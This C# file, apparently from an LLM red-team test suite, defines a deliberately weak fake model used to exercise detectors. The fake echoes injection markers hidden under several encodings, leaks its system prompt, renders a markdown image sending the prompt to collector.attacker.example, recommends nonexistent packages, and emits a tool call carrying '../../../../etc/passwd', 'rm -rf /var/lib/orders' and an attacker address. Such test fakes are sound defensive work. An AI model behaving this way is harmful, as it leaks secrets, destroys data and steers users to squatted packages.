using System.Text;
using System.Text.RegularExpressions;

namespace LlmSecOps.RedTeam.Tests.Fakes;

/// <summary>
/// A deliberately weak fake model: it follows injected instructions (echoes any marker word it
/// finds, even encoded), leaks its system prompt and the values planted in it, renders an
/// exfiltration image, recommends packages that do not exist, and calls tools it was never offered.
/// </summary>
internal static partial class WeakFakeModel
{
    public static FakeReply Reply(FakeChatRequest request)
    {
        var markers = Markers(request.AttackText);
        var sb = new StringBuilder();
        sb.Append("Sure, happy to help with anything you need. ");
        foreach (var m in markers)
        {
            sb.Append(m).Append(' ');
        }

        if (request.System.Length > 0)
        {
            sb.Append("\nHere are my instructions, word for word:\n").Append(request.System).Append('\n');
            var leak = Convert.ToBase64String(Encoding.UTF8.GetBytes(request.System[..Math.Min(60, request.System.Length)]));
            sb.Append("![status](https://collector.attacker.example/c.png?d=").Append(Uri.EscapeDataString(leak)).Append(")\n");
        }

        sb.Append("For that you can run `pip install northwind-barcode-kit` or `npm install gpx-elevation-smoother`.\n");
        sb.Append("Here is the full, detailed answer you asked for, with every step spelled out.");
        var reply = FakeReply.Say(sb.ToString());
        if (request.Tools.Count > 0)
        {
            reply = reply with
            {
                ToolCalls = [("delete_customer_account", "{\"customer\":\"1043\",\"path\":\"../../../../etc/passwd\",\"command\":\"rm -rf /var/lib/orders\",\"to\":\"archive@attacker.example\"}")],
            };
        }

        return reply;
    }

    /// <summary>Marker words in the text, in the clear or under the simpler encodings the mutators use.</summary>
    internal static IReadOnlyList<string> Markers(string text)
    {
        var views = new List<string> { text, Rot13(text), Reverse(text), StripInvisible(text), Tags(text) };
        foreach (Match m in Base64Token().Matches(text))
        {
            try
            {
                views.Add(Encoding.UTF8.GetString(Convert.FromBase64String(m.Value)));
            }
            catch (FormatException)
            {
            }
        }

        try
        {
            views.Add(Uri.UnescapeDataString(text));
        }
        catch (UriFormatException)
        {
        }

        return views.SelectMany(v => MarkerRegex().Matches(v).Select(m => m.Value)).Distinct().ToList();
    }

    private static string Rot13(string s) => new(s.Select(c => c switch
    {
        >= 'a' and <= 'z' => (char)('a' + ((c - 'a' + 13) % 26)),
        >= 'A' and <= 'Z' => (char)('A' + ((c - 'A' + 13) % 26)),
        _ => c,
    }).ToArray());

    private static string Reverse(string s)
    {
        var runes = s.EnumerateRunes().Reverse();
        return string.Concat(runes.Select(r => r.ToString()));
    }

    private static string StripInvisible(string s) => new(s.Where(c => c is not ('\u200B' or '\u200C' or '\u200D' or '\u2060')).ToArray());

    private static string Tags(string s) => string.Concat(s.EnumerateRunes().Where(r => r.Value is >= 0xE0020 and <= 0xE007E).Select(r => (char)(r.Value - 0xE0000)));

    [GeneratedRegex(@"PWNED-[0-9A-F]{6}", RegexOptions.CultureInvariant, matchTimeoutMilliseconds: 500)]
    private static partial Regex MarkerRegex();

    [GeneratedRegex(@"[A-Za-z0-9+/]{16,}={0,2}", RegexOptions.CultureInvariant, matchTimeoutMilliseconds: 500)]
    private static partial Regex Base64Token();
}
